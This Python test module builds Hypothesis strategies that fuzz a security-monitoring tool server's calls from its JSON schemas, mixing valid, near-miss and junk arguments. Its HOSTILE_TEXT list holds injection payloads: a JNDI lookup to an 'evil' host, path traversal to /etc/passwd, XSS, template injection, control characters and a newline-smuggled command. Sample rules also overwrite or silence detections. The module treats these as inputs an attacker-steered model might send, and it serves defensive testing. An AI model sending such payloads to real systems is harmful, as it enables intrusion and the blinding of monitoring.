"""Hypothesis strategies derived from a tool's advertised ``inputSchema`` (JSON Schema as the server
sends it in ``tools/list``), plus the mutations an attacker-steered model would try.

``arguments(schema)`` draws, per call, one of:

- a *conforming* object: every constraint the schema states (types, enums, patterns, lengths,
  bounds, required, ``$ref``/``anyOf``), with string fields drawn from hostile text as well as from
  their patterns: the calls that reach the engine;
- a *near miss*: a conforming object with one field replaced by junk of another JSON type, a value
  just past a bound, a required field dropped or an unknown field added: the calls that must be
  refused with ``invalid_argument`` before any backend;
- *junk*: any JSON object at all.

Only the schema is read, so a new tool or argument is fuzzed without touching this file.
"""

from __future__ import annotations

import math
import re
from typing import Any

from hypothesis import strategies as st

# Text an attacker plants in alerts and a steered model sends back: DSL and query-string syntax,
# wildcards, path tricks, template injection, terminal and bidi control characters, JSON that looks
# like a query.
HOSTILE_TEXT = [
    "*",
    "?",
    "rule.level:>10",
    "a OR b",
    'x" OR "1"="1',
    '{"match_all": {}}',
    '{"script": {"source": "Math.random()"}}',
    '{"query_string": {"query": "*"}}',
    "../../etc/passwd",
    "..%2f..%2fsecurity%2fusers",
    "${jndi:ldap://evil/x}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "\x1b[2J\x1b[31mOK\x1b[0m",
    "\u202eevil\u202c",
    "line\nwrite.create_rule ok",
    "\x00",
    "\ud7ff\ue000\U0010ffff",
    "%00",
    "/*",
    "a" * 5000,
    "001",
    "000",
    "T1110",
    "T1110.001",
    "CVE-2024-3094",
    "5716",
    "100200",
    "sshd",
    "/etc/passwd",
    "10.0.0.1",
    "Credential Access",
    "Critical",
    "1h",
    "30d",
    "2024-05-01T10:00:00Z",
    "9999-12-31T23:59:59-14:00",
]
# Values a real caller sends (ids in the stand-in's estate, windows inside the slice): drawn for any
# field whose pattern they match, so conforming calls reach the backends instead of stopping at
# validation. The schema still decides where each may go.
REALISTIC_TEXT = [
    "002",
    "003",
    "010",
    "1",
    "15m",
    "24h",
    "7d",
    "2d",
    "T1078",
    "T1059.001",
    "T1021",
    "Execution",
    "Persistence",
    "High",
    "Low",
    "CVE-2023-38408",
    "sshd",
    "/etc/shadow",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "web-fra-01",
    "authentication_failed",
    '<group name="local,"><rule id="100200" level="5"><if_sid>5716</if_sid>'
    "<description>sshd: failed login from a watched network</description></rule></group>",
    '<group name="local,"><rule id="100202" level="3" ID="5716" Overwrite="yes"><if_sid>5716</if_sid>'
    "<description>looks new</description></rule></group>",
    '<group name="local,"><rule id="100203" level="0"><if_group>authentication_failed</if_group>'
    "<description>quiet</description></rule></group>",
]

JSON_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=40),
    st.sampled_from(HOSTILE_TEXT),
)
ANY_JSON = st.recursive(
    JSON_SCALARS,
    lambda inner: st.one_of(st.lists(inner, max_size=5), st.dictionaries(st.text(max_size=12), inner, max_size=5)),
    max_leaves=12,
)


def _types(schema: dict[str, Any]) -> list[str]:
    declared = schema.get("type")
    if declared is None:
        return []
    return declared if isinstance(declared, list) else [declared]


def value(schema: dict[str, Any], defs: dict[str, Any]) -> st.SearchStrategy[Any]:
    """A value conforming to ``schema`` (the subset of JSON Schema the tool schemas use)."""
    if "$ref" in schema:
        return value(defs[schema["$ref"].rsplit("/", 1)[-1]], defs)
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    if "anyOf" in schema:
        return st.one_of([value(option, defs) for option in schema["anyOf"]])
    types = _types(schema)
    if not types:
        return ANY_JSON
    if len(types) > 1:
        return st.one_of([value({**schema, "type": t}, defs) for t in types])
    kind = types[0]
    if kind == "null":
        return st.none()
    if kind == "boolean":
        return st.booleans()
    if kind in ("integer", "number"):
        return _number(schema, integer=kind == "integer")
    if kind == "string":
        return _string(schema)
    if kind == "array":
        items = value(schema.get("items", {}), defs)
        return st.lists(items, min_size=schema.get("minItems", 0), max_size=min(schema.get("maxItems", 5), 5))
    if kind == "object":
        return conforming(schema, defs)
    return ANY_JSON


# Known-good values by argument name (the stand-in's estate and the loaded slice), so conforming
# calls often get past the tools' own semantic checks (an agent that exists, a technique in the
# catalogue). Only a weighting: the schema still bounds every value, and junk is drawn beside them.
BY_NAME: dict[str, list[Any]] = {
    "agent_id": ["001", "002", "003", "005", "010", "1", "7"],
    "time_range": ["15m", "1h", "24h", "2d", "7d"],
    "technique_id": ["T1110", "T1078", "T1059.001", "T1021"],
    "cve_id": ["CVE-2023-38408", "CVE-2024-3094", "CVE-2024-6387"],
    "min_severity": ["High", "Critical"],
    "tactic": ["Credential Access", "Execution", "Persistence"],
    "path": ["/etc/passwd", "/etc/shadow", "/usr/bin/sshd"],
    "cursor": [None],
    "size": [1, 5, 25],
    "rule_xml": [t for t in REALISTIC_TEXT if t.startswith("<group")],
    "must": [
        [{"field": "rule.level", "op": "gte", "value": 10}],
        [{"field": "agent.id", "op": "eq", "value": "001"}],
        [{"field": "rule.groups", "op": "in", "value": ["authentication_failed", "sshd"]}],
        [
            {"field": "data.srcip", "op": "exists", "value": True},
            {"field": "location", "op": "prefix", "value": "/var"},
        ],
    ],
    "must_not": [[], [{"field": "rule.level", "op": "lt", "value": 5}]],
    "value": ["10.0.0.1", "001", "root"],
    "kind": ["ip", "user", "hash"],
}


def _number(schema: dict[str, Any], *, integer: bool) -> st.SearchStrategy[Any]:
    low, high = schema.get("minimum"), schema.get("maximum")
    if integer:
        return st.integers(
            min_value=None if low is None else math.ceil(low), max_value=None if high is None else math.floor(high)
        )
    return st.floats(min_value=low, max_value=high, allow_nan=False, allow_infinity=False)


def _string(schema: dict[str, Any]) -> st.SearchStrategy[str]:
    low, high = schema.get("minLength", 0), schema.get("maxLength")

    def fits(text: str) -> bool:
        return len(text) >= low and (high is None or len(text) <= high)

    options: list[st.SearchStrategy[str]] = []
    samples = [t for t in REALISTIC_TEXT + HOSTILE_TEXT if fits(t)]
    if "pattern" in schema:
        pattern = re.compile(schema["pattern"])
        samples = [t for t in samples if pattern.search(t)]
        options.append(st.from_regex(schema["pattern"], fullmatch=True).filter(fits))
    else:
        options.append(st.text(min_size=low, max_size=min(high or 80, 80)))
    if samples:
        options += [st.sampled_from(samples)] * 2
    return st.one_of(options)


def conforming(schema: dict[str, Any], defs: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    properties: dict[str, Any] = schema.get("properties", {})
    required = set(schema.get("required", []))
    optional = sorted(set(properties) - required)
    strategies = {name: _field(name, prop, defs) for name, prop in properties.items()}

    @st.composite
    def build(draw: st.DrawFn) -> dict[str, Any]:
        args = {name: draw(strategies[name]) for name in sorted(required)}
        for name in optional:
            if draw(st.integers(0, 2)) == 0:  # an optional argument in one call of three
                args[name] = draw(strategies[name])
        return args

    return build()


def _field(name: str, prop: dict[str, Any], defs: dict[str, Any]) -> st.SearchStrategy[Any]:
    drawn = value(prop, defs)
    hints = BY_NAME.get(name)
    if not hints:
        return drawn
    return st.one_of(st.sampled_from(hints), st.sampled_from(hints), drawn)


def _near_miss(schema: dict[str, Any], defs: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    properties: dict[str, Any] = schema.get("properties", {})
    names = sorted(properties)

    @st.composite
    def build(draw: st.DrawFn) -> dict[str, Any]:
        args = dict(draw(conforming(schema, defs)))
        how = draw(st.sampled_from(["junk", "past_bound", "drop", "unknown"]))
        if how == "unknown" or not names:
            args[draw(st.sampled_from(["query", "body", "dsl", "__proto__", "index", "script"]))] = draw(ANY_JSON)
        elif how == "drop" and args:
            args.pop(draw(st.sampled_from(sorted(args))))
        elif how == "past_bound":
            name = draw(st.sampled_from(names))
            prop = properties[name]
            if "maximum" in prop:
                args[name] = prop["maximum"] + draw(st.integers(1, 10**6))
            elif "maxLength" in prop:
                args[name] = "x" * (prop["maxLength"] + draw(st.integers(1, 50)))
            elif "maxItems" in prop:
                args[name] = [draw(value(prop.get("items", {}), defs)) for _ in range(prop["maxItems"] + 1)]
            else:
                args[name] = draw(ANY_JSON)
        else:
            args[draw(st.sampled_from(names))] = draw(ANY_JSON)
        return args

    return build()


def arguments(schema: dict[str, Any]) -> st.SearchStrategy[dict[str, Any]]:
    """Tool arguments: conforming, near-miss or junk (see the module docstring)."""
    defs = schema.get("$defs", {})
    valid = conforming(schema, defs)
    return st.one_of(  # about 3 in 5 conforming, 1 in 4 near misses, the rest junk
        valid,
        valid,
        valid,
        _near_miss(schema, defs),
        st.one_of(_near_miss(schema, defs), st.dictionaries(st.text(max_size=12), ANY_JSON, max_size=4)),
    )
